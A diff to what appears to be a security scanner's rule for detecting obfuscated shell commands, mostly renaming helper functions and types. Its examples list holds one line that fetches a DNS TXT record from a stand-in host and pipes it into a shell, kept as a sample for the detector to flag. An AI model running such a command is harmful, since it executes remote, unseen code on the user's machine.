@@ -7,7 +7,7 @@ import {
   constantOutput,
   decodes,
   decodesSimple,
-  handedOn,
+  forwardedPipelines,
   inputTexts,
   interpreters,
   isUnknown,
@@ -17,7 +17,7 @@ import {
   printsConstantly,
   runsDecodedCode,
   runsInput,
-  type ShellReading,
+  type ParsedScript,
   shells,
   sourcesOfProgram,
   UNKNOWN,
@@ -35,8 +35,8 @@ export const commandObfuscation: Rule = {
     'Decoding into a file, an archive tool or a filter; text that decodes to a readable command, which is then judged by itself; the hooks that programs print for `eval`; a variable that nothing in the text fills unseen.',
   references: ['https://attack.mitre.org/techniques/T1027/'],
   mappings: { owasp: ['ASI05'], cwe: ['CWE-506'] },
-  commands: () => [{ ...interest, judge: judgeCommand }, ...windowsCommands('COMMAND_OBFUSCATION')],
-  scripts: () => [{ always: true, judge }],
+  commands: () => [{ ...interest, check: judgeCommand }, ...windowsCommands('COMMAND_OBFUSCATION')],
+  scripts: () => [{ always: true, check: judge }],
   examples: {
     flags: [
       shellCall('host -t txt a.files.example | cut -c 9- | sh'),
@@ -77,7 +77,7 @@ const interest = {
   assigning: true,
 }
 
-function judge({ index, codes, disguised }: ShellReading): Severity | null {
+function judge({ index, codes, disguised }: ParsedScript): Severity | null {
   if (codes.some(({ runsUnseen, code }) => runsUnseen === 'decoder' || runsDecodedCode(code)))
     return 'high'
   if (index().pipes.some(runsDecoded)) return 'high'
@@ -131,7 +131,7 @@ function runsFiltered({ own, input }: Line): boolean {
 
 function runsDecoded({ commands }: Line): boolean {
   const decoder = commands.findIndex(
-    (command) => decodes(command) || handedOn(command).some(isDecodedUnseen),
+    (command) => decodes(command) || forwardedPipelines(command).some(isDecodedUnseen),
   )
   return decoder >= 0 && commands.findLastIndex(runsPiped) > decoder
 }
